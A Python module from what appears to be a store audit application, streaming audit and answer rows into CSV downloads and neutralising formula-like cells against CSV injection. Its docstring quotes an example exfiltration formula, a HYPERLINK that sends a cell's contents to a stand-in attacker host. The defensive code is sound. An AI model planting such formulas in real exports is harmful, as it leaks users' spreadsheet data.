"""Rows for spreadsheets and integrations: audits with scores, and every answer, of a period,
and the one writer of every CSV download (`csv_lines`).

Rows are streamed from the database in chunks (`yield_per`), so a year of a large
region never sits in memory at once. Dates are ISO 8601 in UTC.

Every cell goes through `cell`: text a spreadsheet would read as a formula (starting with
`=`, `+`, `-`, `@`, a tab or a carriage return: a shopper's comment
`=HYPERLINK("http://evil.example/?leak="&B2,"open")`, a store named `=cmd`) gets a leading
single quote, OWASP's rule for CSV injection, so it shows as the text it is; numbers stay
numbers (a change of -3.5 is not text); true and false are written `yes` and `no`.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Iterator
from decimal import Decimal
from typing import Any

import sqlalchemy as sa

from audit.domain.checklist import Checklist
from audit.domain.periods import Period
from audit.services import checklists, scoped
from audit.services.access import Viewer
from audit.services.plans.views import StorePlans
from audit.storage import models
from audit.storage.db import Database

AUDIT_HEADER = [
    "audit_id", "store", "store_name", "region", "checklist", "checklist_version", "started_at", "finished_at",
    "submitted_at", "score", "earned", "possible", "critical_failed", "excluded", "excluded_reason",
]  # fmt: skip
ANSWER_HEADER = [
    "audit_id", "store", "finished_at", "checklist_version", "section", "item", "question", "value", "na",
    "earned", "possible", "failed", "comment",
]  # fmt: skip
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# a store's action plan figures, in the comparison CSV after its scores (empty state: no plan not closed)
PLAN_HEADER = ["plan_state", "plan_overdue", "plan_behaviours", "plan_fixed", "plan_still_failing", "repeat_failures"]


def plan_cells(plans: StorePlans) -> list[Any]:
    """The cells of `PLAN_HEADER` for one store."""
    return [plans.state, plans.overdue, plans.behaviours, plans.fixed, plans.still_failing, plans.repeat_failures]


def cell(value: Any) -> Any:
    """One CSV cell: empty for None, yes/no for booleans, numbers as they are, and text that a
    spreadsheet would take for a formula behind a single quote."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "yes" if value else "no"
    if isinstance(value, int | float | Decimal):
        return value
    text = value.isoformat() if hasattr(value, "isoformat") else str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def csv_lines(header: list[str], rows: Iterable[Iterable[Any]]) -> Iterator[str]:
    """A whole CSV file: the BOM (so spreadsheets read accents right), one header row, then the
    rows, every cell through `cell`, handed out 500 rows at a time."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n")
    buffer.write("\ufeff")
    writer.writerow([cell(v) for v in header])
    for n, row in enumerate(rows, start=1):
        writer.writerow([cell(v) for v in row])
        if n % 500 == 0:
            yield buffer.getvalue()
            buffer.seek(0)
            buffer.truncate()
    yield buffer.getvalue()


def _region_id(db: Database, viewer: Viewer, code: str) -> int:
    with db.session() as session:
        region = scoped.region(session, viewer, code)
        assert region.id is not None
        return region.id


def _stream(db: Database, query: sa.Select, region_id: int, period: Period) -> Iterator[list[Any]]:
    """The rows of the region's audits finished in the period, fetched in chunks."""
    query = query.where(
        models.Store.region_id == region_id,
        models.Audit.finished_at >= period.start,
        models.Audit.finished_at < period.end,
    ).execution_options(yield_per=2000)
    with db.session() as session:
        for row in session.execute(query):
            yield list(row)


def audit_rows(db: Database, viewer: Viewer, region: str, period: Period) -> Iterator[list[Any]]:
    region_id = _region_id(db, viewer, region)
    query = (
        sa.select(
            models.Audit.id,
            models.Store.code,
            models.Store.name,
            models.Region.code,
            models.ChecklistVersion.checklist_key,
            models.Audit.checklist_version_id,
            models.Audit.started_at,
            models.Audit.finished_at,
            models.Audit.submitted_at,
            models.Audit.score,
            models.Audit.earned,
            models.Audit.possible,
            models.Audit.critical_failed,
            models.Audit.excluded,
            models.Audit.excluded_reason,
        )
        .join(models.Store, models.Store.id == models.Audit.store_id)
        .join(models.Region, models.Region.id == models.Store.region_id)
        .join(models.ChecklistVersion, models.ChecklistVersion.id == models.Audit.checklist_version_id)
        .order_by(models.Audit.finished_at, models.Audit.id)
    )
    yield from _stream(db, query, region_id, period)


def answer_rows(db: Database, viewer: Viewer, region: str, period: Period) -> Iterator[list[Any]]:
    region_id = _region_id(db, viewer, region)
    query = (
        sa.select(
            models.Answer.audit_id,
            models.Store.code,
            models.Audit.finished_at,
            models.Audit.checklist_version_id,
            models.Answer.section_key,
            models.Answer.item_key,
            models.Answer.value,
            models.Answer.na,
            models.Answer.earned,
            models.Answer.possible,
            models.Answer.failed,
            models.Answer.comment,
        )
        .join(models.Audit, models.Audit.id == models.Answer.audit_id)
        .join(models.Store, models.Store.id == models.Audit.store_id)
        .order_by(models.Audit.finished_at, models.Answer.audit_id, models.Answer.item_key)
    )
    specs: dict[str, Checklist | None] = {}
    for row in _stream(db, query, region_id, period):
        version_id = row[3]
        if version_id not in specs:
            specs[version_id] = checklists.version(db, version_id)
        spec = specs[version_id]
        item = spec.item(row[5]) if spec is not None else None
        row.insert(6, item.question if item is not None else "")  # the question's words, beside its key
        yield row
